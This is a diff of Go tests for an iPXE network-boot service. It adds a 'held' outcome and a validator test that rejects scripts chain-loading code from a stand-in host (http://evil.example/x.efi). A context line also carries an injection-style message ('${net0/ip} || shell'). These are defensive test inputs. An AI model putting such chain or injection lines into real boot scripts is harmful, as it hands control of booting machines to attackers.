@@ -48,6 +48,7 @@ func TestLifecycleGolden(t *testing.T) {
 		{"local-efi", efi, Step{Kind: StepLocal}, OutcomeLocal},
 		{"local-no-platform", Facts{MAC: macKnown}, Step{Kind: StepLocal}, OutcomeLocal},
 		{"failed", efi, Step{Kind: StepFailed, Message: "install failed 3 times in a row, last: write: ${net0/ip} || shell; #x \"EIO\"\n"}, OutcomeFailed},
+		{"held", bios, Step{Kind: StepHeld, Message: "catalog.yaml:20: version demo-1.1: image demo-1.1.img.zst: no such file in the artifacts directory"}, OutcomeHeld},
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
@@ -88,6 +89,8 @@ func TestFollow(t *testing.T) {
 		{"local replaces the installer", installer, Step{Kind: StepLocal}, Decision{Outcome: OutcomeLocal, Host: host}},
 		{"local without an installer", Decision{Outcome: OutcomeNoInstaller, Host: host}, Step{Kind: StepLocal}, Decision{Outcome: OutcomeLocal, Host: host}},
 		{"failed replaces the installer", installer, Step{Kind: StepFailed, Message: "why"}, Decision{Outcome: OutcomeFailed, Host: host, Message: "why"}},
+		{"held replaces the installer", installer, Step{Kind: StepHeld, Message: "why"}, Decision{Outcome: OutcomeHeld, Host: host, Message: "why"}},
+		{"held keeps no-installer", Decision{Outcome: OutcomeNoInstaller, Host: host}, Step{Kind: StepHeld, Message: "why"}, Decision{Outcome: OutcomeNoInstaller, Host: host}},
 		{"default keeps the decision", installer, Step{}, installer},
 		{"default keeps discovery", Decision{Outcome: OutcomeDiscovery, Installer: in}, Step{}, Decision{Outcome: OutcomeDiscovery, Installer: in}},
 	}
@@ -132,6 +135,21 @@ func TestRenderRefusesBadToken(t *testing.T) {
 	}
 }
 
+func TestCheckScriptChain(t *testing.T) {
+	if err := checkScript("#!ipxe\nchain --replace http://192.0.2.1:8080/boot.ipxe || goto x\n:x\nexit 1\n"); err != nil {
+		t.Errorf("the held machine's ask again was refused: %v", err)
+	}
+	for _, s := range []string{
+		"#!ipxe\nchain http://192.0.2.1:8080/boot.ipxe\n",
+		"#!ipxe\nchain --replace http://evil.example/x.efi\n",
+		"#!ipxe\nchain --replace --autofree http://192.0.2.1:8080/boot.ipxe\n",
+	} {
+		if err := checkScript(s); err == nil {
+			t.Errorf("checkScript accepted %q", s)
+		}
+	}
+}
+
 func TestCheckScriptSanboot(t *testing.T) {
 	if err := checkScript("#!ipxe\nsanboot --no-describe --drive 0x80 || goto x\n:x\nexit 1\n"); err != nil {
 		t.Errorf("the local boot line was refused: %v", err)
@@ -159,6 +177,7 @@ func TestHandlerLifecycle(t *testing.T) {
 		{"install", &fakeLifecycle{step: Step{Kind: StepInstall, Token: testToken}}, OutcomeInstaller, "rackboot.token=" + testToken},
 		{"local", &fakeLifecycle{step: Step{Kind: StepLocal}}, OutcomeLocal, "exit 1"},
 		{"failed", &fakeLifecycle{step: Step{Kind: StepFailed, Message: "disk: none"}}, OutcomeFailed, "echo rackboot: disk: none"},
+		{"held", &fakeLifecycle{step: Step{Kind: StepHeld, Message: "image missing"}}, OutcomeHeld, "echo rackboot: image missing"},
 		{"state error", &fakeLifecycle{err: errors.New("store: disk full")}, OutcomeStateError, "echo rackboot: the rackboot log says why"},
 	}
 	for _, tt := range tests {
